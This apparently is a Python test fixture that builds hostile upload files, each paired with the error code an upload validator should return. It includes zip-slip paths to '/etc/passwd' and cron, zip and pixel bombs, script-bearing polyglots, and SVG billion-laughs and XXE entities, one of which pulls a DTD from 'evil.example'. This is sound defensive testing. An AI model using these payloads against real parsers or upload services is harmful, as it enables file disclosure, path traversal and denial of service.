"""Files made to harm: one for each danger that the platform names, with the code that refuses it."""

import io
import json
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Iterator

import pikepdf

from tests.support.uploads import (
    PAGE,
    SVG,
    VEGA_LITE,
    Record,
    forged_zip,
    gif_bytes,
    image_bytes,
    json_bytes,
    mp4_bytes,
    notebook,
    overlapping_bomb,
    pdf_bytes,
    png_claiming,
    webm_bytes,
    zip_bytes,
)

Case = tuple[str, bytes, str]
INDEX = Record()
SVG_START = b'<svg xmlns="http://www.w3.org/2000/svg">'


def cases() -> dict[str, Case]:
    """Every hostile file: what it is, its name, its bytes, the code that refuses it."""
    found = dict([*_archives(), *_disguises(), *_images(), *_drawings(), *_documents(), *_charts(), *_films()])
    return found | {f"an empty {name}": (name, b"", "empty") for name in WHOLE} | dict(_truncated())


def _archives() -> Iterator[tuple[str, Case]]:
    def archive(danger: str, code: str, *records: Record) -> tuple[str, Case]:
        return danger, ("site.zip", forged_zip(INDEX, *records), code)

    yield archive("slip up", "zip-slip", Record("../../etc/cron.d/evil"))
    yield archive("slip absolute", "zip-slip", Record("/etc/passwd"))
    yield archive("slip drive letter", "zip-slip", Record("C:\\Windows\\evil.dll"))
    yield archive("slip backslashes", "zip-slip", Record("..\\..\\evil.js"))
    yield archive("slip network share", "zip-slip", Record("\\\\server\\share\\evil.js"))
    yield archive("symbolic link", "symlink", Record("link", b"/etc/passwd", mode=0o120777))
    yield archive("junction of Windows", "symlink", Record("link", b"x", attributes=0x400))
    yield archive("device", "not-allowed", Record("device", b"", mode=0o060666))
    yield archive("pipe", "not-allowed", Record("pipe", b"", mode=0o010666))
    yield archive("duplicate", "malformed", Record("a.js"), Record("a.js"))
    yield archive("capitals", "not-allowed", Record("A.js"), Record("a.JS"))
    yield archive("accents", "malformed", Record("e\u0301.js"), Record("é.js"))
    yield archive("slashes", "malformed", Record("a/b.js"), Record("a\\b.js"))
    yield archive("file where a folder is", "malformed", Record("a"), Record("a/b"))
    yield archive("300 characters", "malformed", Record("x" * 300))
    yield archive("reserved name", "not-allowed", Record("aux.js"))
    yield archive("control character", "malformed", Record("a\x07.js"))
    yield archive("encrypted", "encrypted", Record("a.js", flags=1))
    yield archive("encrypted with AES", "encrypted", Record("a.js", method=99, flags=1))
    yield archive("size told too small", "zip-bomb", Record("a.js", b"x" * 5000, deflate=True, size=10))
    yield archive("size told too large", "malformed", Record("a.js", deflate=True, size=10**6))
    yield archive("zstd", "not-allowed", Record("a.js", method=93))
    yield "overlap", ("site.zip", overlapping_bomb(), "zip-bomb")
    yield "ratio", ("site.zip", zip_bytes({"index.html": PAGE, "zeros": bytes(5_000_000)}), "zip-bomb")
    nested = zip_bytes({"a.zip": zip_bytes({"a.zip": zip_bytes({"a.zip": b"x"})})})
    yield "nested", ("site.zip", zip_bytes({"index.html": PAGE, "data.zip": nested}), "zip-bomb")
    many = zip_bytes({f"{number}.js": b"" for number in range(5_500)}, method=zipfile.ZIP_STORED)
    yield "thousands of files", ("site.zip", many, "too-many-files")
    for method, name in ((zipfile.ZIP_BZIP2, "bzip2"), (zipfile.ZIP_LZMA, "lzma")):
        yield name, ("site.zip", zip_bytes({"index.html": PAGE}, method=method), "not-allowed")


def _disguises() -> Iterator[tuple[str, Case]]:
    archive = zip_bytes({"index.html": PAGE})
    yield "PDF and ZIP", ("poster.pdf", pdf_bytes() + archive, "type-mismatch")
    yield "PNG and ZIP", ("map.png", image_bytes("PNG") + archive, "type-mismatch")
    yield "PNG and page", ("map.png", image_bytes("PNG") + b"<script>alert(1)</script>", "type-mismatch")
    yield "JPEG and archive cut short", ("map.jpg", image_bytes("JPEG") + archive[:-5], "type-mismatch")
    yield "GIF and script", ("map.gif", gif_bytes() + b"*/=1;alert(1)", "type-mismatch")
    yield "WebP and program", ("map.webp", image_bytes("WEBP") + b"MZ\x90\0", "type-mismatch")
    yield "program before a ZIP", ("site.zip", b"MZ\x90\0" + archive, "type-mismatch")
    yield "page named PNG", ("map.png", PAGE, "type-mismatch")
    yield "drawing named page", ("page.html", SVG, "type-mismatch")
    yield "script named drawing", ("map.svg", b"alert(1)", "type-mismatch")
    yield "RAR named ZIP", ("site.zip", b"Rar!\x1a\x07\x01\0" + bytes(50), "type-mismatch")
    yield "7z named ZIP", ("site.zip", b"7z\xbc\xaf\x27\x1c" + bytes(50), "type-mismatch")
    yield "tar named ZIP", ("site.zip", _tar(), "type-mismatch")
    yield "program", ("game.exe", b"MZ\x90\0", "not-allowed")


def _tar() -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        member = tarfile.TarInfo("index.html")
        member.size = len(PAGE)
        archive.addfile(member, io.BytesIO(PAGE))
    return buffer.getvalue()


def _images() -> Iterator[tuple[str, Case]]:
    yield "PNG of 2,500 million pixels", ("map.png", png_claiming(50_000, 50_000), "pixel-bomb")
    yield "GIF of 81 million pixels", ("map.gif", _claiming(gif_bytes(1), 6, 9_000), "pixel-bomb")
    yield "WEBP of 81 million pixels", ("map.webp", _claiming(image_bytes("WEBP"), 26, 9_000), "pixel-bomb")
    yield "JPEG of 4,000 million pixels", ("map.jpg", _jpeg_claiming(65_000), "pixel-bomb")
    yield "GIF without end", ("map.gif", _gif_of(4_000), "pixel-bomb")


def _claiming(content: bytes, at: int, side: int) -> bytes:
    """Where GIF and WebP say how wide and high they are."""
    return content[:at] + struct.pack("<2H", side, side) + content[at + 4 :]


def _jpeg_claiming(side: int) -> bytes:
    content = image_bytes("JPEG")
    start = content.index(b"\xff\xc0") + 5
    return content[:start] + struct.pack(">2H", side, side) + content[start + 4 :]


def _gif_of(frames: int) -> bytes:
    """A GIF whose one frame is written again and again."""
    content = gif_bytes(1, (2, 2))
    start = content.index(b"\x2c\0\0\0\0")
    frame = content[start:-1]
    return content[:start] + frame * frames + b";"


def _drawings() -> Iterator[tuple[str, Case]]:
    def drawing(content: bytes, before: bytes = b"") -> bytes:
        return before + SVG_START + content + b"</svg>"

    laughs = b'<!DOCTYPE svg [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;"><!ENTITY c "&b;&b;&b;">]>'
    outside = b'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    parameter = b'<!DOCTYPE svg [<!ENTITY % x SYSTEM "http://evil.example/x.dtd">%x;]>'
    yield "laughs", ("map.svg", drawing(b"<text>&c;</text>", laughs), "not-allowed")
    yield "entity of a file", ("map.svg", drawing(b"<text>&x;</text>", outside), "not-allowed")
    yield "entity of a parameter", ("map.svg", drawing(b"<text/>", parameter), "not-allowed")
    local = b'<image href="file:///etc/passwd" width="9" height="9"/>'
    yield "image of a computer", ("map.svg", drawing(local), "not-allowed")
    linked = b'<image xmlns:l="http://www.w3.org/1999/xlink" l:href="C:\\photo.png"/>'
    yield "image of Windows", ("map.svg", drawing(linked), "not-allowed")
    yield "sheet of a computer", ("map.svg", drawing(b"<style>@import url(file:///a.css)</style>"), "not-allowed")
    yield "drawing without end", ("map.svg", drawing(b"<g>" * 300 + b"<rect/>" + b"</g>" * 300), "malformed")
    wide = SVG.replace(b'width="200"', b'width="999999999"', 1)
    yield "drawing of a million metres", ("map.svg", wide, "pixel-bomb")
    yield "drawing cut short", ("map.svg", SVG[:-9], "malformed")
    yield "drawing of nothing", ("map.svg", drawing(b""), "empty")
    yield "XML of another kind", ("map.svg", b"<svg><rect/></svg>", "malformed")


def _documents() -> Iterator[tuple[str, Case]]:
    yield "protected PDF", ("poster.pdf", pdf_bytes(protected=True), "encrypted")
    buffer = io.BytesIO()
    with pikepdf.new() as document:
        document.add_blank_page()
        document.save(buffer, encryption=pikepdf.Encryption(user="", owner="secret", R=6))
    yield "PDF with restrictions", ("poster.pdf", buffer.getvalue(), "encrypted")


def _charts() -> Iterator[tuple[str, Case]]:
    yield "JSON nested", ("a.json", b'{"data": [' + b"[" * 100_000 + b"]" * 100_000 + b"]}", "malformed")
    yield "JSON in UTF-16", ("a.json", json.dumps(VEGA_LITE).encode("utf-16"), "malformed")
    yield "NaN", ("a.json", b'{"mark": "bar", "data": {"values": [NaN]}}', "malformed")
    yield "Infinity", ("a.ipynb", b'{"nbformat": 4, "cells": [], "metadata": {"x": -Infinity}}', "malformed")
    yield "notebook of no format", ("a.ipynb", json_bytes({**notebook(), "nbformat": 9}), "not-allowed")
    yield "notebook of no shape", ("a.ipynb", json_bytes({"nbformat": 4, "cells": [1, {"x": 2}]}), "malformed")
    yield "Vega of no shape", ("a.json", json_bytes({"marks": ["x"], "data": []}), "malformed")


def _films() -> Iterator[tuple[str, Case]]:
    yield "film that none plays", ("film.mp4", mp4_bytes(b"mp4v"), "not-allowed")
    yield "film without pictures", ("film.mp4", mp4_bytes(handler=b"soun"), "not-allowed")
    yield "film of no size", ("film.mp4", mp4_bytes(size=65_000), "pixel-bomb")
    yield "box larger than the file", ("film.mp4", mp4_bytes() + struct.pack(">I4s", 10**9, b"free"), "malformed")
    yield "boxes without number", ("film.mp4", mp4_bytes() + struct.pack(">I4s", 8, b"free") * 30_000, "malformed")
    yield "element larger than the file", ("film.webm", webm_bytes() + b"\xec\x08\xff\xff\xff\xff", "malformed")


WHOLE = {
    "map.png": image_bytes("PNG"),
    "map.jpg": image_bytes("JPEG"),
    "map.webp": image_bytes("WEBP"),
    "map.avif": image_bytes("AVIF"),
    "map.gif": gif_bytes(),
    "map.svg": SVG,
    "poster.pdf": pdf_bytes(),
    "site.zip": zip_bytes({"index.html": PAGE, "data.csv": zlib.compress(PAGE * 100)}),
    "work.ipynb": json_bytes(notebook()),
    "chart.json": json_bytes(VEGA_LITE),
    "film.mp4": mp4_bytes(),
    "film.webm": webm_bytes(),
}


def _truncated() -> Iterator[tuple[str, Case]]:
    for name, content in WHOLE.items():
        for part in (0.5, 0.95):
            yield f"{name} cut at {part:.0%}", (name, content[: int(len(content) * part)], "malformed")
